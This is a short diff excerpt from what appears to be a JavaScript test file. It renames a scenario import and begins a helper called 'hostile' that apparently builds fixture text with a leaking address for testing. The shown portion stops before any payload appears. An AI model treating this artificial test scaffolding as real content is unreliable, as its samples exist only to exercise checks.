@@ -2,7 +2,7 @@
 // Text of a model, of a tool and of a person is shown. It is never run, and it loads nothing.
 import assert from "node:assert/strict";
 import { setTimeout as sleep } from "node:timers/promises";
-import { scenario } from "./world.mjs";
+import { scenario } from "./scenario.mjs";
 
 /** Whatever could load or run, with an address that would be seen. */
 const hostile = (leak) => `Harmless words.
